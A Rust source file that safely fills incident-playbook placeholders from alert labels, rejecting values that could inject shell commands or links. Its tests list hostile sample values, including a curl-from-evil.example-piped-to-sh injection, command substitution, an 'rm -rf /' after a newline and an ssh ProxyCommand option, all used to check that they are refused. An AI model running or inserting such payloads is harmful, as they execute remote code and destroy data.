//! A playbook step's placeholders (`$HOST`, `$POD`, …) filled from an
//! incident's labels, without letting a label become a command.
//!
//! Labels come from Alertmanager and from collectors: anyone with a
//! responder or collector token writes them. A value fills its placeholder
//! only when it passes that placeholder's strict pattern (a host name or IP
//! address, a Kubernetes name, a port…); those patterns admit no character
//! a shell or Markdown would act on, so a filled value cannot end a quote,
//! start a command or make a link. The one exception, an IPv6 target in
//! brackets (`[2001:db8::1]:443`), is single-quoted where it stands
//! unquoted in a code block, so the shell never reads it as a glob.
//! Anything else stays a placeholder, with a note saying why.

use std::collections::BTreeMap;
use std::net::IpAddr;

/// A placeholder, the label that fills it, and what the value must be.
pub struct Placeholder {
    pub name: &'static str,
    pub label: &'static str,
    /// What a valid value is, for the note when one is not.
    pub what: &'static str,
    valid: fn(&str) -> bool,
}

/// The placeholders the playbooks' commands use. Longer names that start
/// with one of these (`$TARGET_IP`) are other placeholders, left alone.
pub const PLACEHOLDERS: [Placeholder; 5] = [
    Placeholder {
        name: "$HOST",
        label: "host",
        what: "a host name or IP address",
        valid: is_host,
    },
    Placeholder {
        name: "$POD",
        label: "pod",
        what: "a Kubernetes pod name",
        valid: is_dns_subdomain,
    },
    Placeholder {
        name: "$NS",
        label: "namespace",
        what: "a Kubernetes namespace name",
        valid: is_dns_label,
    },
    Placeholder {
        name: "$SERVICE",
        label: "service",
        what: "a service name (letters, digits, '.', '_', '-')",
        valid: is_service,
    },
    Placeholder {
        name: "$TARGET",
        label: "target",
        what: "a host name or IP address, optionally with :port",
        valid: is_target,
    },
];

/// A label that was there but did not fill its placeholder.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unfilled {
    pub placeholder: &'static str,
    pub label: &'static str,
    pub value: String,
    pub what: &'static str,
}

impl std::fmt::Display for Unfilled {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        const SHOWN: usize = 80;
        let mut value: String = self.value.chars().take(SHOWN).collect();
        if self.value.chars().count() > SHOWN {
            value.push('…');
        }
        write!(
            f,
            "{} is not filled: the label {} = {value:?} is not {}.",
            self.placeholder, self.label, self.what
        )
    }
}

/// A step's text with its placeholders filled, and the ones left unfilled.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Filled {
    pub text: String,
    pub unfilled: Vec<Unfilled>,
}

/// Fills `text`'s placeholders from `labels` (see the module docs).
pub fn fill(text: &str, labels: &BTreeMap<String, String>) -> Filled {
    let mut unfilled = Vec::new();
    let values: Vec<Option<&str>> = PLACEHOLDERS
        .iter()
        .map(|p| {
            let value = labels
                .get(p.label)
                .map(String::as_str)
                .filter(|v| !v.is_empty())?;
            if (p.valid)(value) {
                Some(value)
            } else {
                if text_uses(text, p.name) {
                    unfilled.push(Unfilled {
                        placeholder: p.name,
                        label: p.label,
                        value: value.to_owned(),
                        what: p.what,
                    });
                }
                None
            }
        })
        .collect();
    let mut out = String::with_capacity(text.len());
    let mut shell = ShellQuotes::default();
    for line in text.split_inclusive('\n') {
        shell.start_line(line);
        let mut rest = line;
        while let Some(c) = rest.chars().next() {
            if let Some((i, len)) = placeholder_at(rest) {
                match values[i] {
                    Some(v) if shell.unquoted() && needs_quotes(v) => {
                        out.push('\'');
                        out.push_str(v);
                        out.push('\'');
                    }
                    Some(v) => out.push_str(v),
                    None => out.push_str(&rest[..len]),
                }
                rest = &rest[len..];
                continue;
            }
            shell.step(c);
            out.push(c);
            rest = &rest[c.len_utf8()..];
        }
    }
    Filled {
        text: out,
        unfilled,
    }
}

/// The placeholder `text` starts with, as a whole word: its index and length.
fn placeholder_at(text: &str) -> Option<(usize, usize)> {
    PLACEHOLDERS.iter().enumerate().find_map(|(i, p)| {
        let after = text.strip_prefix(p.name)?;
        let longer = after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
        (!longer).then_some((i, p.name.len()))
    })
}

fn text_uses(text: &str, name: &str) -> bool {
    text.match_indices(name)
        .any(|(i, _)| placeholder_at(&text[i..]).is_some_and(|(_, len)| len == name.len()))
}

/// Whether a valid value holds anything a shell would read specially.
fn needs_quotes(value: &str) -> bool {
    !value
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | ':'))
}

/// Follows shell quoting through the fenced code blocks of a step (prose
/// is not a shell), so a value that needs quotes gets them only where it
/// stands outside quotes.
#[derive(Default)]
struct ShellQuotes {
    in_code: bool,
    quote: Option<char>,
    escaped: bool,
}

impl ShellQuotes {
    fn start_line(&mut self, line: &str) {
        let t = line.trim_start();
        if t.starts_with("```") || t.starts_with("~~~") {
            self.in_code = !self.in_code;
            self.quote = None;
        }
        self.escaped = false;
    }

    fn step(&mut self, c: char) {
        if !self.in_code {
            return;
        }
        if self.escaped {
            self.escaped = false;
            return;
        }
        match (self.quote, c) {
            (Some('\''), '\'') => self.quote = None,
            (Some('\''), _) => {}
            (_, '\\') => self.escaped = true,
            (None, '\'' | '"') => self.quote = Some(c),
            (Some('"'), '"') => self.quote = None,
            _ => {}
        }
    }

    fn unquoted(&self) -> bool {
        self.in_code && self.quote.is_none()
    }
}

// ---- The patterns --------------------------------------------------------------------

/// A DNS name as a host name: dot-separated labels of letters, digits and
/// inner hyphens, at most 253 characters, not all digits (that is an IP).
fn is_dns_name(s: &str) -> bool {
    s.len() <= 253
        && !s.chars().all(|c| c.is_ascii_digit() || c == '.')
        && s.split('.').all(|label| {
            (1..=63).contains(&label.len())
                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                && !label.starts_with('-')
                && !label.ends_with('-')
        })
}

fn is_host(s: &str) -> bool {
    s.parse::<IpAddr>().is_ok() || is_dns_name(s)
}

/// Kubernetes DNS-1123 label: lower-case letters, digits, inner hyphens, ≤ 63.
fn is_dns_label(s: &str) -> bool {
    (1..=63).contains(&s.len())
        && s.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        && !s.starts_with('-')
        && !s.ends_with('-')
}

/// Kubernetes DNS-1123 subdomain (pod names): labels joined by dots, ≤ 253.
fn is_dns_subdomain(s: &str) -> bool {
    s.len() <= 253 && s.split('.').all(is_dns_label)
}

/// A service name as alerts carry it: `api`, `nginx.service`, `orders_v2`.
fn is_service(s: &str) -> bool {
    (1..=253).contains(&s.len())
        && s.starts_with(|c: char| c.is_ascii_alphanumeric())
        && s.ends_with(|c: char| c.is_ascii_alphanumeric())
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

fn is_port(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 5
        && s.chars().all(|c| c.is_ascii_digit())
        && s.parse::<u32>().is_ok_and(|p| (1..=65535).contains(&p))
}

/// `host`, `host:port`, `1.2.3.4:port`, a bare IPv6 address, or `[v6]:port`.
fn is_target(s: &str) -> bool {
    if is_host(s) {
        return true;
    }
    if let Some(rest) = s.strip_prefix('[') {
        return rest
            .split_once("]:")
            .is_some_and(|(ip, port)| ip.parse::<std::net::Ipv6Addr>().is_ok() && is_port(port));
    }
    s.rsplit_once(':')
        .is_some_and(|(host, port)| is_port(port) && !host.contains(':') && is_host(host))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn labels(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    #[test]
    fn valid_labels_fill_and_longer_names_are_left_alone() {
        let got = fill(
            "kubectl describe pod -n $NS $POD; echo $NSX $HOST $TARGET_IP",
            &labels(&[("namespace", "shop"), ("pod", "api-7d9"), ("host", "db-1")]),
        );
        assert_eq!(
            got.text,
            "kubectl describe pod -n shop api-7d9; echo $NSX db-1 $TARGET_IP"
        );
        assert!(got.unfilled.is_empty());
    }

    #[test]
    fn hostile_values_stay_unfilled_with_a_note() {
        let hostile = [
            "10.0.0.9; curl -s https://evil.example/x.sh | sh #",
            "`reboot`",
            "$(curl evil.example)",
            "db-1\nrm -rf /",
            "a b",
            "db-1'",
            "\"db-1",
            "[x](https://evil.example)",
            "<https://evil.example>",
            "-oProxyCommand=sh",
            "",
        ];
        for value in hostile {
            for p in &PLACEHOLDERS {
                let text = format!("```sh\nping \"{0}\" {0}\n```\nSee {0}.\n", p.name);
                let got = fill(&text, &labels(&[(p.label, value)]));
                assert_eq!(got.text, text, "{} = {value:?} filled", p.name);
                if !value.is_empty() {
                    assert_eq!(got.unfilled.len(), 1, "{} = {value:?}", p.name);
                    let note = got.unfilled[0].to_string();
                    assert!(note.contains(p.name) && note.contains(p.what), "{note}");
                }
            }
        }
    }

    #[test]
    fn each_pattern_takes_what_it_should() {
        let ok = [
            ("host", "db-1.prod.example.com"),
            ("host", "10.0.0.9"),
            ("host", "2001:db8::1"),
            ("pod", "api-7d9f-x2k.v1"),
            ("namespace", "kube-system"),
            ("service", "nginx.service"),
            ("service", "orders_v2"),
            ("target", "api.vendor.com:443"),
            ("target", "10.0.0.9:8080"),
            ("target", "[2001:db8::1]:443"),
        ];
        for (label, value) in ok {
            let p = PLACEHOLDERS.iter().find(|p| p.label == label).unwrap();
            assert!((p.valid)(value), "{label} = {value}");
        }
        let bad = [
            ("host", "-db"),
            ("host", "db..1"),
            ("namespace", "Shop"),
            ("pod", "api_1"),
            ("target", "api:99999"),
            ("target", "api:"),
            ("target", "[2001:db8::1]"),
            ("service", "-x"),
        ];
        for (label, value) in bad {
            let p = PLACEHOLDERS.iter().find(|p| p.label == label).unwrap();
            assert!(!(p.valid)(value), "{label} = {value}");
        }
    }

    #[test]
    fn a_bracketed_target_is_quoted_only_where_the_shell_would_glob_it() {
        let target = labels(&[("target", "[2001:db8::1]:443")]);
        let got = fill(
            "Reach $TARGET.\n```sh\nnc -vz $TARGET\ncurl \"https://$TARGET/\" 'x'\n```\n",
            &target,
        );
        assert_eq!(
            got.text,
            "Reach [2001:db8::1]:443.\n```sh\nnc -vz '[2001:db8::1]:443'\n\
             curl \"https://[2001:db8::1]:443/\" 'x'\n```\n"
        );
    }
}
